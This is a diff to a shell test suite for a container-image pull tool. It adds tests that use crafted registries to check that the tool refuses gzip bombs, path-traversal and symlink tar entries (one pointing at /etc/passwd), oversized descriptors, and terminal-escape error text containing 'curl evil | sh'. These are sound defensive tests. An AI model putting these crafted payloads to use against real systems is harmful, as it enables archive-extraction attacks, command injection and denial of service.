@@ -281,7 +281,7 @@ else
 fi
 
 # --- fault-injecting server ------------------------------------------------------
-gcc -std=c11 -D_GNU_SOURCE -O1 -o "$tmp/faultsrv" "$UK_ROOT/tests/registry/faultsrv.c" 2>"$tmp/gcc.log" ||
+gcc -std=c11 -D_GNU_SOURCE -O1 -o "$tmp/faultsrv" "$UK_ROOT/tests/registry/faultsrv.c" -lssl -lcrypto 2>"$tmp/gcc.log" ||
 	{ fail faultsrv_build "$(cat "$tmp/gcc.log")"; exit 0; }
 # faults LAYOUTDIR OPTS...: starts one, sets F (host:port)
 faults() {
@@ -349,7 +349,7 @@ while IFS='|' read -r name doc want; do
 		fail "pull_refuses_$name" "$out"
 	fi
 done <<EOD
-not_json|hello|is invalid: not an index with schemaVersion 2
+not_json|hello|is invalid: not valid JSON: line 1, column 
 docker_manifest|{"schemaVersion":2,"mediaType":"application/vnd.docker.distribution.manifest.v2+json","config":{}}|is a Docker manifest
 bad_descriptor|{"schemaVersion":2,"mediaType":"application/vnd.oci.image.index.v1+json","manifests":[{"mediaType":"application/vnd.oci.image.manifest.v1+json","digest":"sha256:nothex","size":1}]}|digest is not a sha256 digest
 wrong_size|{"schemaVersion":2,"mediaType":"application/vnd.oci.image.index.v1+json","manifests":[{"mediaType":"application/vnd.oci.image.manifest.v1+json","digest":"$mdigest","size":3}]}|its size differs from the index's
@@ -392,3 +392,281 @@ out=$("$UK" pull "$F/x:1" 2>&1)
 if [ $? -ne 0 ] && grep -q 'refused anonymous access' <<<"$out"; then pass bearer_without_credentials; else fail bearer_without_credentials "$out"; fi
 out=$(echo secret | "$UK" login -u test --password-stdin "$F" 2>&1 && "$UK" pull "$F/x:1" 2>&1)
 if [ $? -eq 0 ]; then pass bearer_token_pull; else fail bearer_token_pull "$out"; fi
+
+# --- crafted registries (the hardening issue) ------------------------------------
+# put_blob DIR FILE: FILE as a blob of the layout DIR; prints "DIGEST SIZE".
+put_blob() {
+	local h
+	h=$(sha256sum "$2" | cut -d' ' -f1)
+	mkdir -p "$1/blobs/sha256" "$1/tags"
+	cp "$2" "$1/blobs/sha256/$h"
+	echo "sha256:$h $(stat -c %s "$2")"
+}
+# image DIR TAG CONFIG LAYER [LAYER-SIZE]: an image manifest tagged TAG with
+# one tar+gzip layer, whose declared size may lie.
+image() {
+	local c cs l ls
+	read -r c cs < <(put_blob "$1" "$3")
+	read -r l ls < <(put_blob "$1" "$4")
+	printf '{"schemaVersion":2,"mediaType":"application/vnd.oci.image.manifest.v1+json","config":{"mediaType":"application/vnd.oci.image.config.v1+json","digest":"%s","size":%s},"layers":[{"mediaType":"application/vnd.oci.image.layer.v1.tar+gzip","digest":"%s","size":%s}]}' \
+		"$c" "$cs" "$l" "${5:-$ls}" >"$1/tags/$2"
+	put_blob "$1" "$1/tags/$2" >/dev/null
+}
+# tgz OUT SPEC...: a tar+gzip written by python3's tarfile, entries as given:
+# NAME (a small file), NAME=dir, NAME->TARGET (symbolic link), NAME=>TARGET
+# (hard link), NAME=chr (a device), NAME=fifo, NAME=zeros:BYTES.
+tgz() {
+	python3 - "$@" <<'PY'
+import io, sys, tarfile
+class Zeros:
+    def read(self, n): return b"\0" * n
+with tarfile.open(sys.argv[1], "w:gz") as t:
+    for s in sys.argv[2:]:
+        i, data = tarfile.TarInfo(s), io.BytesIO(b"hi\n")
+        i.size, i.mode = 3, 0o644
+        if "->" in s or "=>" in s:
+            i.name, i.linkname = s.replace("=>", "->").split("->")
+            i.type, i.size, data = tarfile.SYMTYPE if "->" in s else tarfile.LNKTYPE, 0, None
+        elif s.endswith("=dir"):
+            i.name, i.type, i.size, i.mode, data = s[:-4], tarfile.DIRTYPE, 0, 0o755, None
+        elif s.endswith("=chr"):
+            i.name, i.type, i.size, data = s[:-4], tarfile.CHRTYPE, 0, None
+            i.devmajor, i.devminor = 1, 3
+        elif s.endswith("=fifo"):
+            i.name, i.type, i.size, data = s[:-5], tarfile.FIFOTYPE, 0, None
+        elif "=zeros:" in s:
+            i.name, n = s.split("=zeros:")
+            i.size, data = int(n), Zeros()
+        t.addfile(i, data)
+PY
+}
+# fsrv ADDR LAYOUT OPTS...: another faultsrv, listening on ADDR; sets S (ADDR:PORT).
+fsrv() {
+	local a=$1 d=$2
+	shift 2
+	rm -f "$tmp/fport"
+	"$tmp/faultsrv" -a "$a" "$@" "$d" "$tmp/fport" &
+	pids+=($!)
+	for _ in $(seq 50); do [ -s "$tmp/fport" ] && break; sleep 0.05; done
+	S=$a:$(cat "$tmp/fport")
+}
+tmp_left() { ls -A "$UK_HOME/.tmp" 2>/dev/null; }
+
+printf '{"architecture":"amd64","os":"linux"}' >"$tmp/cfg.json"
+tgz "$tmp/ok.tgz" unikernel=dir unikernel/k
+mkdir -p "$tmp/craft"
+image "$tmp/craft" ok "$tmp/cfg.json" "$tmp/ok.tgz"
+image "$tmp/craft" huge "$tmp/cfg.json" "$tmp/ok.tgz" 4611686018427387904
+image "$tmp/craft" short "$tmp/cfg.json" "$tmp/ok.tgz" 20
+tgz "$tmp/bomb.tgz" unikernel=dir unikernel/k=zeros:$((100 << 20))
+image "$tmp/craft" bomb "$tmp/cfg.json" "$tmp/bomb.tgz"
+rm -f "$tmp/flog"
+fsrv 127.0.0.1 "$tmp/craft" -l "$tmp/flog"
+C=$S
+export UK_HOME=$tmp/home-craft
+out=$("$UK" pull "$C/x:ok" 2>&1)
+if [ $? -eq 0 ]; then pass crafted_registry_good_pull; else fail crafted_registry_good_pull "$out"; fi
+
+# A descriptor claiming 2^62 bytes: refused before any blob is asked for.
+: >"$tmp/flog"
+out=$("$UK" pull "$C/x:huge" 2>&1)
+if [ $? -ne 0 ] && grep -q 'of 4611686018427387904 bytes, more than the 4 GiB uk pulls' <<<"$out" &&
+	grep -q 'max-blob' <<<"$out" && ! grep -q '/blobs/' "$tmp/flog" && [ -z "$(tmp_left)" ]; then
+	pass pull_refuses_huge_descriptor_before_download
+else
+	fail pull_refuses_huge_descriptor_before_download "$out; requests: $(cat "$tmp/flog")"
+fi
+# The limit is the user's: --max-blob, else UK_MAX_BLOB.
+rm -rf "$UK_HOME"
+out=$("$UK" pull --max-blob 64 "$C/x:ok" 2>&1); rc=$?
+out2=$(UK_MAX_BLOB=100 "$UK" pull "$C/x:ok" 2>&1); rc2=$?
+out3=$(UK_MAX_BLOB=100 "$UK" pull --max-blob 1K "$C/x:ok" 2>&1); rc3=$?
+if [ $rc -ne 0 ] && grep -q 'more than the 64 bytes uk pulls' <<<"$out" &&
+	[ $rc2 -ne 0 ] && grep -q 'more than the 100 bytes uk pulls' <<<"$out2" && [ $rc3 -eq 0 ]; then
+	pass pull_max_blob_option_and_env
+else
+	fail pull_max_blob_option_and_env "$rc: $out / $rc2: $out2 / $rc3: $out3"
+fi
+# A blob longer than its descriptor says: the transfer stops there.
+rm -rf "$UK_HOME"
+out=$("$UK" pull "$C/x:short" 2>&1)
+if [ $? -ne 0 ] && grep -q 'is longer than the 20 bytes its descriptor says' <<<"$out" &&
+	[ -z "$(tmp_left)" ] && [ -z "$(find "$UK_HOME/blobs" -type f 2>/dev/null)" ]; then
+	pass pull_stops_blob_longer_than_declared
+else
+	fail pull_stops_blob_longer_than_declared "$out"
+fi
+# A gzip bomb (100 MiB of zeros in about 100 KiB): refused when pulled.
+out=$("$UK" pull "$C/x:bomb" 2>&1)
+if [ $? -ne 0 ] && grep -q 'unpacks to more than 67108864 bytes' <<<"$out" &&
+	! "$UK" images | grep -q "x:bomb" && [ -z "$(tmp_left)" ]; then
+	pass pull_refuses_gzip_bomb
+else
+	fail pull_refuses_gzip_bomb "$out"
+fi
+
+# Layers uk could not unpack are refused at pull time, naming the entry.
+while IFS='|' read -r name entries want; do
+	rm -rf "$UK_HOME" "$tmp/unsafe"
+	# shellcheck disable=SC2086
+	tgz "$tmp/unsafe.tgz" $entries
+	image "$tmp/unsafe" 1 "$tmp/cfg.json" "$tmp/unsafe.tgz"
+	fsrv 127.0.0.1 "$tmp/unsafe"
+	out=$("$UK" pull "$S/x:1" 2>&1)
+	if [ $? -ne 0 ] && grep -qF "$want" <<<"$out" && ! "$UK" images | grep -q "$S" &&
+		[ -z "$(tmp_left)" ]; then
+		pass "pull_refuses_layer_$name"
+	else
+		fail "pull_refuses_layer_$name" "$out"
+	fi
+done <<EOD
+absolute|unikernel/k /etc/evil|layer entry '/etc/evil' has an unsafe path
+dotdot|unikernel/../../evil|layer entry 'unikernel/../../evil' has an unsafe path
+symlink_out|unikernel=dir unikernel/k->/etc/passwd|layer entry 'unikernel/k' is a symbolic link to '/etc/passwd'
+hardlink|unikernel/k unikernel/h=>unikernel/k|layer entry 'unikernel/h' is a hard link to 'unikernel/k'
+device|unikernel/null=chr|layer entry 'unikernel/null' is a device file
+fifo|unikernel/p=fifo|layer entry 'unikernel/p' is a FIFO
+EOD
+
+# JSON the parser refuses: its own message (line, column, reason) comes through.
+rm -rf "$UK_HOME" "$tmp/bigint"
+cp -r "$tmp/craft" "$tmp/bigint"
+printf '{"schemaVersion":2,"mediaType":"application/vnd.oci.image.manifest.v1+json","config":{"mediaType":"application/vnd.oci.image.config.v1+json","digest":"sha256:%064d","size":99999999999999999999999},"layers":[]}' 0 >"$tmp/bigint/tags/1"
+fsrv 127.0.0.1 "$tmp/bigint"
+out=$("$UK" pull "$S/x:1" 2>&1)
+if [ $? -ne 0 ] && grep -q 'is invalid: not valid JSON: line 1, column [0-9]*: too big integer' <<<"$out" &&
+	! grep -q 'not a JSON object with schemaVersion 2' <<<"$out"; then
+	pass pull_huge_integer_parser_message
+else
+	fail pull_huge_integer_parser_message "$out"
+fi
+
+# A registry's error text with terminal escapes is shown escaped.
+printf '{"errors":[{"code":"DENIED","message":"\\u001b]0;pwned\\u0007\\u001b[2J\\u009b1m gone\\nhint: curl evil | sh"}]}' >"$tmp/escapes.json"
+fsrv 127.0.0.1 "$tmp/craft" -e "$tmp/escapes.json"
+out=$("$UK" pull "$S/x:ok" 2>&1)
+if [ $? -ne 0 ] && grep -qF 'DENIED \x1b]0;pwned\x07\x1b[2J\xc2\x9b1m gone hint: curl' <<<"$out" &&
+	! LC_ALL=C grep -q "$(printf '[\001-\010\013-\037\177]')" <<<"$out" &&
+	! grep -q '^hint: curl' <<<"$out"; then
+	pass registry_error_text_escaped
+else
+	fail registry_error_text_escaped "$(printf '%s' "$out" | od -c | head -20)"
+fi
+
+# SIGINT or SIGTERM in the middle of a blob: uk removes its temporary file.
+for sig in INT TERM; do
+	rm -rf "$UK_HOME"
+	fsrv 127.0.0.1 "$tmp/good" -s
+	# (a script's background jobs start with SIGINT ignored, so reset it)
+	env --default-signal=INT "$UK" pull "$S/x:1" >/dev/null 2>&1 & kp=$!
+	for _ in $(seq 100); do [ -n "$(tmp_left)" ] && break; sleep 0.05; done
+	before=$(tmp_left)
+	sleep 0.3
+	kill -s $sig $kp
+	wait $kp
+	rc=$?
+	if [ -n "$before" ] && [ $rc -gt 128 ] && [ -z "$(tmp_left)" ] && ! "$UK" images 2>/dev/null | grep -q "$S"; then
+		pass "pull_sig${sig,,}_removes_temp_file"
+	else
+		fail "pull_sig${sig,,}_removes_temp_file" "status $rc; .tmp before: '$before', after: '$(tmp_left)'"
+	fi
+done
+
+# uk rmi during a pull (the pull paused, by a test hook, after it skipped the
+# config blob both images share and before it commits): the pull must fetch
+# that blob again, not tag an image whose blob rmi just deleted. 20 times.
+mkdir -p "$tmp/share"
+tgz "$tmp/l1.tgz" unikernel=dir unikernel/one
+tgz "$tmp/l2.tgz" unikernel=dir unikernel/two
+image "$tmp/share" x "$tmp/cfg.json" "$tmp/l1.tgz"
+image "$tmp/share" y "$tmp/cfg.json" "$tmp/l2.tgz"
+fsrv 127.0.0.1 "$tmp/share"
+bad=
+for i in $(seq 20); do
+	export UK_HOME=$tmp/home-share
+	rm -rf "$UK_HOME" "$tmp/pause"
+	"$UK" pull "$S/x:x" >/dev/null 2>&1 || { bad="pull x failed"; break; }
+	UK_TEST_PULL_PAUSE=$tmp/pause "$UK" pull "$S/x:y" >"$tmp/pully" 2>&1 & yp=$!
+	for _ in $(seq 200); do [ -e "$tmp/pause" ] && break; sleep 0.02; done
+	[ -e "$tmp/pause" ] || { bad="the pull of y never paused: $(cat "$tmp/pully")"; kill $yp; break; }
+	"$UK" rmi "$S/x:x" >"$tmp/rmi" 2>&1 || { bad="rmi: $(cat "$tmp/rmi")"; rm -f "$tmp/pause"; wait $yp; break; }
+	rm -f "$tmp/pause"
+	wait $yp
+	rc=$?
+	# Every blob the tagged y names must be in the store.
+	m=$(jq -r '.manifests[] | select(.annotations["org.opencontainers.image.ref.name"] | endswith("x:y")) | .digest' "$UK_HOME/index.json" 2>/dev/null)
+	missing=0
+	if [ -n "$m" ]; then
+		for d in "$m" $(jq -r '.config.digest, .layers[].digest' "$UK_HOME/blobs/sha256/${m#sha256:}" 2>/dev/null); do
+			[ -f "$UK_HOME/blobs/sha256/${d#sha256:}" ] || missing=$((missing + 1))
+		done
+	fi
+	if [ $rc -ne 0 ] || [ -z "$m" ] || [ $missing -ne 0 ]; then
+		bad="round $i: status $rc, y tagged as '${m}', $missing blobs of it missing: $(cat "$tmp/pully")"
+		break
+	fi
+done
+if [ -z "$bad" ] && grep -q '2 blobs fetched, 0 already stored' "$tmp/pully"; then
+	pass pull_refetches_blob_removed_during_pull
+else
+	fail pull_refetches_blob_removed_during_pull "${bad:-$(cat "$tmp/pully")}"
+fi
+
+# Logins to several registries at once keep every entry of auth.json.
+export UK_HOME=$tmp/home-logins
+hosts=()
+for _ in 1 2 3 4 5 6; do fsrv 127.0.0.1 "$tmp/craft"; hosts+=("$S"); done
+bad=
+for i in $(seq 10); do
+	rm -f "$UK_HOME/auth.json"
+	lp=()
+	for h in "${hosts[@]}"; do
+		echo "pw$i" | "$UK" login -u "user$i" --password-stdin "$h" >/dev/null 2>&1 & lp+=($!)
+	done
+	for p in "${lp[@]}"; do wait "$p" || bad="a login failed in round $i"; done
+	n=$(jq '.auths | length' "$UK_HOME/auth.json" 2>/dev/null)
+	[ "$n" = 6 ] || { bad="round $i: $n of 6 entries kept: $(cat "$UK_HOME/auth.json")"; break; }
+done
+if [ -z "$bad" ] && [ "$(stat -c %a "$UK_HOME/auth.json")" = 600 ] &&
+	[ -z "$(find "$UK_HOME" -name 'auth.json.tmp.*')" ]; then
+	pass concurrent_logins_keep_every_entry
+else
+	fail concurrent_logins_keep_every_entry "$bad"
+fi
+
+# Bearer realms of an HTTPS registry (faultsrv speaking TLS on 127.0.0.2 with
+# a certificate made here, trusted through SSL_CERT_FILE): a realm on plain
+# HTTP gets neither credentials nor a token request; a realm on another host
+# is named with the registry that sent uk there.
+if openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 2 \
+	-keyout "$tmp/key.pem" -out "$tmp/cert.pem" -subj /CN=uk-test \
+	-addext "subjectAltName=IP:127.0.0.1,IP:127.0.0.2" >/dev/null 2>&1; then
+	export UK_HOME=$tmp/home-tls SSL_CERT_FILE=$tmp/cert.pem
+	rm -f "$tmp/realm.log"
+	fsrv 127.0.0.1 "$tmp/craft" -l "$tmp/realm.log"
+	R=$S
+	fsrv 127.0.0.2 "$tmp/craft" -t "$tmp/cert.pem" -k "$tmp/key.pem" -b -r "http://$R/token"
+	out=$(echo secret | "$UK" login -u test --password-stdin "$S" 2>&1); rc=$?
+	out2=$("$UK" pull "$S/x:ok" 2>&1); rc2=$?
+	if [ $rc -ne 0 ] && grep -q "names the token service 'http://$R/token' (named by registry $S) on plain HTTP" <<<"$out" &&
+		[ $rc2 -ne 0 ] && grep -q 'on plain HTTP' <<<"$out2" && [ ! -s "$tmp/realm.log" ] &&
+		! grep -qs "$S" "$UK_HOME/auth.json"; then
+		pass https_registry_refuses_plain_http_realm
+	else
+		fail https_registry_refuses_plain_http_realm "$out / $out2 / the realm saw: $(cat "$tmp/realm.log" 2>&1)"
+	fi
+	fsrv 127.0.0.1 "$tmp/craft" -t "$tmp/cert.pem" -k "$tmp/key.pem"
+	T=$S
+	fsrv 127.0.0.2 "$tmp/craft" -t "$tmp/cert.pem" -k "$tmp/key.pem" -b -r "https://$T/token"
+	out=$(echo wrong | "$UK" login -u test --password-stdin "$S" 2>&1); rc=$?
+	out2=$(echo secret | "$UK" login -u test --password-stdin "$S" 2>&1 && "$UK" pull "$S/x:ok" 2>&1); rc2=$?
+	if [ $rc -ne 0 ] && grep -q "the token service 'https://$T/token' (named by registry $S) refused the credentials" <<<"$out" &&
+		[ $rc2 -eq 0 ]; then
+		pass https_realm_on_other_host_named
+	else
+		fail https_realm_on_other_host_named "$rc: $out / $rc2: $out2"
+	fi
+	unset SSL_CERT_FILE
+else
+	fail https_registry_setup "openssl cannot make a test certificate"
+fi
